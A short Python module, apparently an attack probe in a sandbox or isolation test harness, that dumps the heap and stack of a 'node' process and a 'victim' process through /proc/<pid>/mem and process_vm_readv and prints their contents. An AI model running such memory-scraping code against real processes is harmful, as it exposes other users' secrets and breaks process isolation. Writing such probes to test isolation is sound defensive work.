"""The memory of the node and of another process of the user."""

import ctypes

from attacks import libc, targets


def train(run):
    at = targets(run)
    for pid in (at["node"], at["victim"]):
        try:
            for line in open(f"/proc/{pid}/maps"):
                span, *_, name = line.split(maxsplit=5)
                if "[heap]" in name or "[stack]" in name:
                    begin, end = (int(part, 16) for part in span.split("-"))
                    with open(f"/proc/{pid}/mem", "rb", buffering=0) as memory:
                        memory.seek(begin)
                        print(memory.read(end - begin))
        except (OSError, ValueError) as error:
            print(error)
        into = ctypes.create_string_buffer(1 << 16)
        local = (ctypes.c_size_t * 2)(ctypes.addressof(into), len(into))
        remote = (ctypes.c_size_t * 2)(at["address"], len(into))
        print(libc.process_vm_readv(pid, local, ctypes.c_ulong(1), remote, ctypes.c_ulong(1), ctypes.c_ulong(0)))
        print(into.raw.strip(b"\0"))
